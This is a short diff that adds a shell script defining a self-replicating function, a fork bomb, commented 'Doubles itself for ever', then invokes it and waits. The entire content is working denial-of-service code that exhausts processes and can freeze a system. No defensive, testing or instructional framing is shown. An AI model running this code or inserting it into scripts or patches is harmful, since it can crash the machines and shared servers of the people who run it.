@@ -1,0 +1,5 @@
+# Doubles itself for ever.
+b() { b | b & }
+b
+wait
+sleep 30
